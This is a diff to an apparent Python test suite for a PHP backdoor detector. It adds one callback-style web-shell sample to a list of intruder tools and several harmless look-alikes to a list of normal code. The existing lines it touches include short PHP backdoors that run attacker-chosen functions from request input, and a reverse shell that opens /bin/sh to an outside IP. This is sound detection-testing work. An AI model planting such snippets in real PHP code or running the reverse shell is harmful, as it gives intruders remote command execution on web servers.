@@ -28,6 +28,7 @@ def weight(source: str) -> int:
         "$f = $_SERVER['HTTP_X_FN']; array_filter(array($_SERVER['HTTP_X_ARG']), $f);",
         "extract($_POST); $rows = array(1); if (isset($sort)) { usort($rows, $sort); }",
         "function hello($m, $v) { return call_user_func($m, $v); } is_file('/x') && hello($_REQUEST['a'] ?? '', 1);",
+        "function r($a, $f) { return $f($a); } r(array(1, 2), $_POST['c']);",
         "class A { static function go($a, $b) { return $b($a); } } A::go('id', $_GET['f']);",
         "$f = $_COOKIE['f']; ob_start($f); echo $_COOKIE['a']; ob_end_flush();",
         '$t=fsockopen("198.51.100.9",443); proc_open("/bin/sh -i",[0=>$t,1=>$t,2=>$t],$x);',
@@ -62,6 +63,10 @@ def test_a_tool_of_an_intruder_weighs_at_least_medium(source: str) -> None:
         "$controller = $routes[$name]; $controller($request);",
         "$name = $_POST['name']; echo htmlspecialchars($name);",
         "eval('?>' . $template);",
+        "extract($_GET); function sorted_by($rows, $cmp) { usort($rows, $cmp); return $rows; }",
+        "class A { function exec($cmd) { exec($cmd, $o); } } $db->exec($this->sql($_POST['x']));",
+        "function h($a) { if (!in_array($a, array('a', 'b'), true)) die; call_user_func($a); } h($_GET['a']);",
+        "function dispatch($action) { $action(); } $x = isset($_GET['a']) ? $_GET['a'] : 'i'; dispatch('index');",
     ],
 )
 def test_what_applications_do_is_no_flow(source: str) -> None:
